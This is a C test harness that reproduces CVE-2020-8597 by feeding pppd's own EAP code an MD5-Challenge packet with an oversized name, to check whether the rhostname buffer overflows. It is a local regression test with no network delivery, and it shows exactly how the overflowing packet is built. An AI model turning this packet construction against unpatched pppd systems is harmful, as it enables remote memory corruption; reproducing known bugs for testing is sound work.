/*
 * eap_rhostname.c - CVE-2020-8597's packet, delivered to pppd's own EAP code.
 *
 *     eap_rhostname request|response negotiated|idle NAMELEN
 *
 * Link it with pppd's objects, main.o replaced by a copy of main.c compiled
 * with -Dmain=pppd_main (as mschapv2_vector.c).  Nothing of EAP is
 * reimplemented: the program brings eap.c into the state pppd's auth.c
 * puts it in once LCP has agreed on EAP, through eap.c's own entry points,
 * then hands one received packet to eap_protent.input(), which is what
 * pppd's main loop calls for a frame of protocol 0xc227:
 *
 *   request:  we authenticate to the peer with EAP (eap_authwithpeer);
 *             the peer sends an MD5-Challenge Request whose name (the
 *             bytes after the 16-byte value) is NAMELEN bytes long.
 *   response: we authenticate the peer with EAP (eap_authpeer); the peer
 *             answers the Identity Request, pppd sends an MD5-Challenge,
 *             and the peer's MD5-Response carries a NAMELEN-byte name.
 *   idle:     the same packet while EAP was not negotiated at all (the
 *             link authenticates with MS-CHAPv2, or not at all).
 *
 * pppd logs through error()/info()/dbglog() to syslog and to log_to_fd:
 * set to stdout here, so the test reads pppd's own messages.  The program
 * prints "survived" when eap.c returned; an overflow of rhostname[256]
 * kills it before that (stack smashing detected, or a crash on return).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>

#include "pppd.h"
#include "eap.h"

#define VALLEN	16

static u_char pkt[EAP_HEADERLEN + 2 + VALLEN + 4096];

static int
packet(int code, int id, int type, const u_char *data, int datalen)
{
	int len = EAP_HEADERLEN + 1 + datalen;

	pkt[0] = code;
	pkt[1] = id;
	pkt[2] = len >> 8;
	pkt[3] = len & 0xff;
	pkt[4] = type;
	memcpy(pkt + 5, data, datalen);
	return len;
}

int
main(int argc, char **argv)
{
	static u_char data[1 + VALLEN + 4096];
	eap_state *esp = &eap_states[0];
	int request, negotiated, namelen, len, id = 1;

	if (argc != 4) {
		fprintf(stderr, "usage: %s request|response negotiated|idle "
		    "NAMELEN\n", argv[0]);
		return 2;
	}
	request = strcmp(argv[1], "request") == 0;
	negotiated = strcmp(argv[2], "negotiated") == 0;
	namelen = atoi(argv[3]);
	if (namelen < 0 || namelen > 4096)
		return 2;

	log_to_fd = 1;
	debug = 1;
	eap_protent.init(0);
	eap_protent.lowerup(0);

	if (negotiated && request) {
		eap_authwithpeer(0, "siso");
	} else if (negotiated) {
		eap_authpeer(0, "siso");
		/* the peer's Identity, answering pppd's Identity Request */
		id = esp->es_server.ea_id;
		len = packet(EAP_RESPONSE, id, EAPT_IDENTITY,
		    (const u_char *)"client", 6);
		eap_protent.input(0, pkt, len);
		id = esp->es_server.ea_id;
		printf("EAP server state %d, expecting id %d\n",
		    esp->es_server.ea_state, id);
	}

	data[0] = VALLEN;
	memset(data + 1, 0x5a, VALLEN);
	memset(data + 1 + VALLEN, 'A', namelen);
	len = packet(request ? EAP_REQUEST : EAP_RESPONSE, id, EAPT_MD5CHAP,
	    data, 1 + VALLEN + namelen);
	printf("sending an MD5 %s with a %d-byte name\n",
	    request ? "Request" : "Response", namelen);
	fflush(stdout);
	eap_protent.input(0, pkt, len);
	printf("survived\n");
	return 0;
}
